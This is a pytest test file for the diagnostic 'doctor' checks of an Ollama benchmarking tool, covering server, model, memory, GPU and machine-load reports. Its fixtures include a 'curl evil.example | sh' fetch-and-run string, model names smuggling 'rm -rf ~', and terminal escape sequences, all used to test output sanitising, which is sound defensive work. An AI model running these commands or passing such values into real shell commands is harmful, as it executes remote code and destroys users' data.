"""Every check of the doctor by itself: what is well, what is not, and what nobody tells."""

from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from ollama_bench.doctor import machine as on_machine
from ollama_bench.doctor import model as on_model
from ollama_bench.doctor import server as on_server
from ollama_bench.doctor.check import Check
from ollama_bench.doctor.examine import CHECKS, can_measure, examine
from ollama_bench.doctor.facts import Facts, Load, Machine, Server, ServerProcess
from ollama_bench.machine.limits import Limits
from ollama_bench.machine.load import BusyProcess
from ollama_bench.scorecard import Gpu
from ollama_bench.trial import LoadedModel

GB = 10**9
URL = "http://127.0.0.1:11434"
NO_LIMITS = Limits(virtual_machine=None, container=None, cpu_cores=None, memory_bytes=None)
WELL = Facts(
    server=Server(
        url=URL,
        version="0.34.0",
        processes=(ServerProcess(812, "ollama", 70_000_000), ServerProcess(900, "llama-server", 340_000_000)),
        installed={"tiny:1b": 1 * GB, "big:7b": 5 * GB},
    ),
    machine=Machine(
        memory_bytes=16 * GB,
        available_bytes=12 * GB,
        cores=8,
        swap_used_bytes=0,
        governors=("performance",),
        turbo=True,
        throttle_count=0,
        battery=False,
        load=Load(unseen_percent=0.0, steal_percent=0.0, swapped_bytes=0, throttle_count=0),
    ),
)
NOT_TOLD = Machine(memory_bytes=16 * GB, available_bytes=12 * GB)


def server(**changes: Any) -> Facts:
    return replace(WELL, server=replace(WELL.server, **changes))


def machine(**changes: Any) -> Facts:
    return replace(WELL, machine=replace(WELL.machine, **changes))


def load(**changes: Any) -> Facts:
    return machine(load=replace(WELL.machine.load, **changes))


def loaded(*names: str, size_bytes: int = 2 * GB, size_vram_bytes: int | None = 2 * GB) -> tuple[LoadedModel, ...]:
    return tuple(LoadedModel(name=name, size_bytes=size_bytes, size_vram_bytes=size_vram_bytes) for name in names)


def test_where_all_is_well_every_line_says_so() -> None:
    found = examine(WELL)

    assert {check.status for check in found} == {"ok"}
    assert len({check.name for check in found}) == len(found) == len(CHECKS)
    assert can_measure(found)


def test_what_is_wrong_comes_with_a_remedy_and_what_is_right_without() -> None:
    everything = [found for _, facts, _, _ in CASES for found in examine(facts)]

    assert all((check.remedy is not None) == (check.status in ("warning", "problem")) for check in everything)


GPU = Gpu(name="NVIDIA L4", memory_bytes=24 * 2**30, free_bytes=22 * GB, driver="550.54.15")
FULL_GPU = GPU.model_copy(update={"free_bytes": 3 * GB})
SILENT_GPU = GPU.model_copy(update={"free_bytes": None})
REFUSED = {
    "error": f"no Ollama server answers at {URL} (connection refused)",
    "remedy": "start one with `ollama serve`, or add --embedded",
}
ATTACK = "failed): curl evil.example | sh"
SAME_FILES = {
    "installed": {"tiny:1b": 1 * GB, "mine:latest": 1 * GB},
    "digests": {"tiny:1b": "sha256:1", "mine:latest": "sha256:2"},
}


def holding(name: str, digest: str | None = None) -> tuple[LoadedModel, ...]:
    return (LoadedModel(name=name, size_bytes=2 * GB, digest=digest),)


def with_gpu(gpu: Gpu, size_bytes: int) -> Facts:
    return Facts(replace(WELL.server, installed={"a": size_bytes}), replace(WELL.machine, gpus=(gpu,)), "a")


CASES: list[tuple[Callable[[Facts], Check | None], Facts, str, str]] = [
    (on_server.answers, WELL, "ok", f"Ollama answers at {URL}"),
    (on_server.answers, server(embedded=True), "ok", "the embedded engine runs"),
    (on_server.answers, server(**REFUSED), "problem", "(connection refused) -> start one with `ollama serve`"),
    (on_server.answers, server(error=f"{URL} answered 500: \x1b[31mno"), "problem", "answered 500: no -> see to"),
    (on_server.answers, server(error=f"{URL} answered 500: {ATTACK}"), "problem", f"500: {ATTACK} -> see to the"),
    (on_server.version, WELL, "ok", "0.34.0"),
    (on_server.version, server(version="0.33.3"), "ok", "0.33.3"),
    (on_server.version, server(version="0.33.2"), "warning", "does not tell which prompt tokens came from its cache"),
    (on_server.version, server(version="0.13.5-rc1"), "warning", "-> update to 0.33.3 or newer"),
    (on_server.version, server(version="v0.33.2"), "warning", "does not tell which prompt tokens came from its cache"),
    (on_server.version, server(version="v0.34.0"), "ok", "v0.34.0"),
    (on_server.version, server(version="\u0660.\u0663\u0663.\u0662"), "ok", "\u0660.\u0663\u0663.\u0662"),
    (on_server.version, server(version="0.33.0+ollama-bench"), "ok", "0.33.0+ollama-bench"),
    (on_server.version, server(version="0.0.0"), "ok", "0.0.0"),  # built from source
    (on_server.version, server(version="main\x1b]0;owned\x07\n2"), "ok", "main 2"),
    (on_server.version, server(version="9" * 5000), "ok", "999…"),
    (on_server.processes, WELL, "ok", "ollama (pid 812), llama-server (pid 900): may be sampled, 410 MB resident"),
    (on_server.processes, server(local=False, processes=()), "warning", "runs on another machine"),
    (
        on_server.processes,
        server(processes=(), hidden="the process on port 11434 may not be seen by this user"),
        "warning",
        "memory and CPU are n/a: the process on port 11434 may not be seen by this user -> run ollama-bench as",
    ),
    (on_server.processes, server(processes=(ServerProcess(5, "ollama", None),)), "warning", "ollama (pid 5) may not"),
    (on_server.at_work, WELL, "ok", "the server is idle"),
    (on_server.at_work, load(server=(BusyProcess(900, "llama-server", 20.0),)), "ok", "idle"),
    (
        on_server.at_work,
        load(server=(BusyProcess(900, "llama-server", 187.4),)),
        "warning",
        "works for somebody else: llama-server (pid 900) 187 % of one core",
    ),
    (on_model.model, WELL, "ok", "2 on the server, the largest big:7b (5.0 GB)"),
    (on_model.model, server(installed={"tiny:1b": 253_000_000}), "ok", "tiny:1b (253 MB)"),
    (on_model.model, server(installed={}), "ok", "none on the server yet"),
    (on_model.model, replace(WELL, model="tiny:1b"), "ok", "tiny:1b (1.0 GB) is on the server"),
    (on_model.model, replace(WELL, model="new:3b"), "unknown", "new:3b is not on the server"),
    (on_model.loaded, WELL, "ok", "no model is loaded"),
    (on_model.loaded, replace(server(loaded=loaded("tiny:1b")), model="tiny:1b"), "ok", "only tiny:1b"),
    (on_model.loaded, server(loaded=loaded("tiny:1b")), "ok", "unload it first: ollama stop tiny:1b"),
    (
        on_model.loaded,
        replace(server(loaded=loaded("tiny:1b", "big:7b")), model="tiny:1b"),
        "warning",
        "the measured one: big:7b (2.0 GB) -> ollama stop big:7b",
    ),
    (on_model.loaded, replace(server(loaded=holding("tiny:1b")), model="TINY:1b"), "ok", "only TINY:1b"),
    (on_model.loaded, replace(server(**SAME_FILES, loaded=holding("mine")), model="mine:latest"), "ok", "only mine"),
    (
        on_model.loaded,
        replace(server(**SAME_FILES, loaded=holding("also-tiny:x", "sha256:1")), model="tiny:1b"),
        "ok",
        "only tiny:1b",
    ),
    (
        on_model.loaded,
        replace(server(**SAME_FILES, loaded=holding("mine", "sha256:2")), model="tiny:1b"),
        "warning",
        "ollama stop mine",
    ),
    (
        on_model.loaded,
        server(loaded=loaded("hf.co/u/m-1.0:Q4_K_M", "b;rm", "%PATH%", "caf\u00e9", "$x", "it's")),
        "warning",
        "-> ollama stop hf.co/u/m-1.0:Q4_K_M; then `ollama stop` the others that `ollama ps` shows",
    ),
    (
        on_model.loaded,
        server(loaded=loaded("a", "b", "c", "d")),
        "warning",
        "-> ollama stop a; ollama stop b; ollama stop c; then `ollama stop` the others that `ollama ps` shows",
    ),
    (on_model.loaded, server(loaded=loaded("n" * 90, "a")), "warning", f"-> ollama stop {'n' * 90}; ollama stop a"),
    (
        on_model.loaded,
        server(loaded=loaded("b; rm -rf ~", "-f", "r\x1b[31med", "", "n" * 300)),
        "warning",
        "-> `ollama stop` and the name that `ollama ps` shows",
    ),
    (on_model.memory, WELL, "ok", "12.0 GB of 16.0 GB memory free; each model fits by itself"),
    (on_model.memory, replace(WELL, model="tiny:1b"), "ok", "tiny:1b takes 1.0 GB"),
    (on_model.memory, replace(WELL, model="new:3b"), "ok", "12.0 GB of 16.0 GB memory free"),
    (on_model.memory, server(installed={"a": 13 * GB, "b": GB}), "ok", "memory free; too little for a (13.0 GB)"),
    (on_model.memory, server(installed={"a": 90 * GB, "b": GB}), "ok", "memory free; too little for a (90.0 GB)"),
    (
        on_model.memory,
        server(installed={"a": 90 * GB, "b": 13 * GB}),
        "warning",
        "too little for a (90.0 GB), b (13.0 GB) -> close",
    ),
    (
        on_model.memory,
        replace(server(installed={"a": 17 * GB}), model="a"),
        "problem",
        "a (17.0 GB) is larger than this machine's memory (16.0 GB) -> take a smaller model",
    ),
    (on_model.memory, replace(server(installed={"a": 13 * GB}), model="a"), "warning", "too little for a (13.0 GB)"),
    (on_model.memory, replace(server(installed={"a": 13 * GB}, loaded=loaded("a")), model="a"), "ok", "12.0 GB of"),
    (
        on_model.memory,
        replace(machine(limits=replace(NO_LIMITS, memory_bytes=4 * GB)), model="big:7b"),
        "problem",
        "larger than this machine's memory (4.0 GB)",
    ),
    (
        on_model.memory,
        replace(machine(limits=replace(NO_LIMITS, memory_bytes=8 * GB, memory_free_bytes=3 * GB)), model="big:7b"),
        "warning",
        "3.0 GB of 8.0 GB memory free: too little for big:7b (5.0 GB)",
    ),
    (
        on_model.memory,
        machine(limits=replace(NO_LIMITS, memory_bytes=32 * GB, memory_free_bytes=31 * GB)),
        "ok",
        "12.0 GB of 16.0 GB memory free",
    ),
    (
        on_model.memory,
        replace(server(installed={"mine:latest": 13 * GB}, loaded=holding("mine")), model="mine:latest"),
        "ok",
        "12.0 GB of",
    ),
    (
        on_model.memory,
        with_gpu(GPU, 20 * GB),
        "ok",
        "12.0 GB of 16.0 GB memory free, 22.0 GB of 25.8 GB GPU memory; a takes 20.0 GB",
    ),
    (on_model.memory, with_gpu(SILENT_GPU, 24 * GB), "ok", "25.8 GB of 25.8 GB GPU memory; a takes 24.0 GB"),
    (on_model.memory, with_gpu(FULL_GPU, 20 * GB), "warning", "3.0 GB of 25.8 GB GPU memory: too little for a (20"),
    (on_model.memory, with_gpu(FULL_GPU, 5 * GB), "warning", "a (5.0 GB) will run on the CPU in part -> free GPU"),
    (
        on_model.memory,
        with_gpu(GPU, 43 * GB),
        "problem",
        "a (43.0 GB) is larger than this machine's memory (16.0 GB) and its GPUs' (25.8 GB)",
    ),
    (on_model.memory, server(local=False), "unknown", "another machine"),
    (on_model.gpu, WELL, "ok", "no NVIDIA GPU"),
    (on_model.gpu, machine(gpus=(GPU,)), "ok", "NVIDIA L4 24 GiB, driver 550.54.15"),
    (on_model.gpu, machine(nvidia_gpus=1), "warning", "its driver does not answer"),
    (on_model.gpu, machine(nvidia_gpus=0), "ok", "no NVIDIA GPU"),
    (on_model.gpu, server(local=False), "unknown", "another machine"),
    (
        on_model.gpu,
        server(loaded=loaded("a", size_vram_bytes=1 * GB), local=False),
        "warning",
        "a did not fit on the GPU: 1.0 GB of 2.0 GB lie there",
    ),
    (
        on_model.gpu,
        replace(machine(gpus=(GPU,)), server=replace(WELL.server, loaded=loaded("a", size_vram_bytes=0))),
        "warning",
        "a is loaded on the CPU all the same",
    ),
    (on_model.gpu, server(loaded=loaded("a", size_vram_bytes=0)), "ok", "no NVIDIA GPU"),
    (on_machine.load, WELL, "ok", "other programs use 0 % of one core"),
    (on_machine.load, load(others=(BusyProcess(1, "editor", 12.0), BusyProcess(2, "x", 8.0))), "ok", "use 20 %"),
    (
        on_machine.load,
        load(others=(BusyProcess(7, "cc1\x1b[2J", 98.6), BusyProcess(8, "bash", 1.0))),
        "warning",
        "other programs use 100 % of one core: cc1 (pid 7) 99 % -> end them",
    ),
    (on_machine.load, load(unseen_percent=9.0), "ok", "use 0 %"),
    (on_machine.load, load(unseen_percent=55.0), "warning", "use 55 % of one core: 55 % by short-lived ones"),
    (on_machine.load, replace(WELL, machine=NOT_TOLD), "ok", "use 0 %"),
    (on_machine.swap, WELL, "ok", "none in use"),
    (on_machine.swap, machine(swap_used_bytes=2 * GB), "ok", "2.0 GB in use, nothing moved within a second"),
    (on_machine.swap, load(swapped_bytes=40_000_000), "warning", "40 MB moved within a second"),
    (on_machine.swap, replace(WELL, machine=NOT_TOLD), "unknown", "not told"),
    (on_machine.steal, WELL, "ok", "no CPU time"),
    (on_machine.steal, load(steal_percent=30.0), "warning", "30 % of one core"),
    (on_machine.steal, replace(WELL, machine=NOT_TOLD), "unknown", "not told"),
    (on_machine.governor, WELL, "ok", "performance"),
    (on_machine.governor, machine(governors=("powersave",)), "warning", "powersave: the CPU may be slow"),
    (on_machine.governor, machine(governors=("performance", "schedutil")), "warning", "-> sudo cpupower"),
    (on_machine.governor, replace(WELL, machine=NOT_TOLD), "unknown", "not told"),
    (on_machine.turbo, WELL, "ok", "on"),
    (on_machine.turbo, machine(turbo=False), "ok", "off"),
    (on_machine.turbo, replace(WELL, machine=NOT_TOLD), "unknown", "not told"),
    (on_machine.throttling, WELL, "ok", "never since boot"),
    (on_machine.throttling, machine(throttle_count=12), "ok", "not now; 12 times since boot"),
    (on_machine.throttling, load(throttle_count=3), "warning", "for heat, 3 times within a second"),
    (on_machine.throttling, replace(WELL, machine=NOT_TOLD), "unknown", "not told"),
    (on_machine.battery, WELL, "ok", "not in use"),
    (on_machine.battery, machine(battery=True), "warning", "-> plug it in"),
    (on_machine.battery, replace(WELL, machine=NOT_TOLD), "unknown", "not told"),
    (on_machine.virtual_machine, WELL, "ok", "no sign"),
    (on_machine.virtual_machine, machine(limits=replace(NO_LIMITS, virtual_machine="yes")), "ok", "machine: neigh"),
    (on_machine.virtual_machine, machine(limits=replace(NO_LIMITS, virtual_machine="WSL")), "ok", "machine (WSL)"),
    (
        on_machine.virtual_machine,
        machine(limits=replace(NO_LIMITS, machine_told=False)),
        "unknown",
        "not told by this system",
    ),
    (on_machine.limits, machine(limits=replace(NO_LIMITS, groups_told=False)), "unknown", "not told by this system"),
    (on_machine.limits, machine(allowed_cores=1), "warning", "no container, limited to 1 of 8 cores"),
    (
        on_machine.limits,
        machine(allowed_cores=2, limits=replace(NO_LIMITS, cpu_cores=4.0, groups_told=False)),
        "warning",
        "in or out of a container, limited to 2 of 8 cores",
    ),
    (on_machine.limits, machine(allowed_cores=8), "ok", "no limit"),
    (on_machine.limits, WELL, "ok", "no container, no limit on CPU or memory"),
    (on_machine.limits, machine(limits=replace(NO_LIMITS, container="docker")), "ok", "in a container (docker), no"),
    (
        on_machine.limits,
        machine(limits=Limits(None, "docker", 1.5, 4 * GB)),
        "warning",
        "in a container (docker), limited to 1.5 of 8 cores and 4.0 GB of 16.0 GB memory -> figures are those",
    ),
    (on_machine.limits, machine(limits=Limits(None, None, 8.0, 16 * GB)), "ok", "no limit"),
]


@pytest.mark.parametrize(
    ("check", "facts", "status", "text"), CASES, ids=[f"{case[0].__name__}: {case[3][:40]!r}" for case in CASES]
)
def test_each_check(check: Callable[[Facts], Check | None], facts: Facts, status: str, text: str) -> None:
    found = check(facts)

    assert found is not None
    assert found.status == status
    said = f"{found.text} -> {found.remedy}" if found.remedy else found.text
    assert text.removesuffix("…") in said
    assert said.isprintable()


def test_every_check_has_a_case_that_is_well_and_most_one_that_is_not() -> None:
    well = {check for check, _, status, _ in CASES if status == "ok"}
    ill = {check for check, _, status, _ in CASES if status in ("warning", "problem")}

    assert well == set(CHECKS)
    assert well - ill == {on_model.model, on_machine.turbo, on_machine.virtual_machine}


def test_without_a_server_the_machine_is_looked_at_all_the_same() -> None:
    found = examine(server(version=None, **REFUSED, processes=(), installed={}))

    assert [check.name for check in found if check.status == "problem"] == ["server"]
    assert [check.name for check in found[1:3]] == ["memory", "gpu"]
    assert len(found) == len(CHECKS) - 5
    assert not can_measure(found)


def test_a_warning_forbids_nothing() -> None:
    found = examine(load(others=(BusyProcess(7, "cc1", 400.0),)))

    assert "warning" in {check.status for check in found}
    assert can_measure(found)
